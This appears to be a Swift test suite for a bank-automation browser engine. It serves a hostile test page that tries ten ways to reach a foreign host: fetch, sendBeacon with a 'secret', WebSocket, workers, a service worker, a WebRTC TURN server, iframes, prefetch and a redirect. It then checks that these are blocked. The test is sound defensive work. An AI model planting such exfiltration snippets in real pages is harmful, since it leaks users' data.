import BankScript
import BrowserAutomation
import Foundation
import TestServers
import TestSupport
import Testing

/// A page at the bank tries to reach a foreign host in every way that a page has.
@Suite("A hostile page in the browser", .serialized)
struct HostilePageInBrowserTests {
    @Test("does not reach a foreign host by any of ten ways", .needsChromedriver, .timeLimit(.minutes(4)))
    func silence() async throws {
        #expect(try await connections(namingForeign: false) == 0)
    }

    @Test(
        "reaches it where the script names it, so that silence means something", .needsChromedriver,
        .timeLimit(.minutes(4)))
    func control() async throws {
        #expect(try await connections(namingForeign: true) > 0)
    }

    /// Returns the number of connections that the foreign host has seen.
    private func connections(namingForeign: Bool) async throws -> Int {
        let foreign = try await LoopbackSite.start { _ in "" }
        let bank = try await LoopbackSite.start { path in
            Self.answer(to: path, foreign: "127.0.0.1:\(foreign.port)")
        }
        let origin = "http://localhost:\(bank.port)"
        var script = BankScript("hostile", named: "Hostile", at: origin, isForTesting: true, steps: { Open("/") })
        if namingForeign { script.origins.append("http://127.0.0.1:\(foreign.port)") }
        let engine = try await BrowserNavigationEngine.start(for: script)
        try await engine.open(origin + "/")
        // The ways that begin by themselves have begun; the slow ones get a moment.
        try await Task.sleep(for: .seconds(1))
        try? await engine.open(origin + "/redirect")
        await engine.close()
        let seen = foreign.connections
        await foreign.stop()
        await bank.stop()
        return seen
    }

    private static func answer(to path: String, foreign: String) -> String {
        switch path {
        case "/redirect":
            "HTTP/1.1 302 Found\r\nLocation: http://\(foreign)/redirect\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        case "/worker.js":
            page(
                "text/javascript", "self.addEventListener('install', () => fetch('http://\(foreign)/service-worker'));")
        case "/":
            page(
                "text/html",
                """
                <!doctype html><title>Hostile</title><link rel="prefetch" href="http://\(foreign)/prefetch">
                <link rel="preconnect" href="http://\(foreign)"><img src="http://\(foreign)/image">
                <iframe src="http://\(foreign)/frame"></iframe>
                <script>
                const attempt = (body) => { try { body(); } catch {} };
                attempt(() => fetch("http://\(foreign)/fetch", { mode: "no-cors" }).catch(() => {}));
                attempt(() => navigator.sendBeacon("http://\(foreign)/beacon", "secret"));
                attempt(() => new WebSocket("ws://\(foreign)/socket"));
                attempt(() => new Worker(URL.createObjectURL(new Blob(["fetch('http://\(foreign)/worker')"]))));
                attempt(() => navigator.serviceWorker.register("/worker.js"));
                attempt(() => {
                  const peer = new RTCPeerConnection({ iceServers: [{ urls: "turn:\(foreign)?transport=tcp",
                    username: "a", credential: "b" }] });
                  peer.createDataChannel("a");
                  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
                });
                </script>
                """)
        default: "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        }
    }

    private static func page(_ type: String, _ text: String) -> String {
        "HTTP/1.1 200 OK\r\nContent-Type: \(type)\r\nContent-Length: \(text.utf8.count)\r\nConnection: close\r\n\r\n\(text)"
    }
}
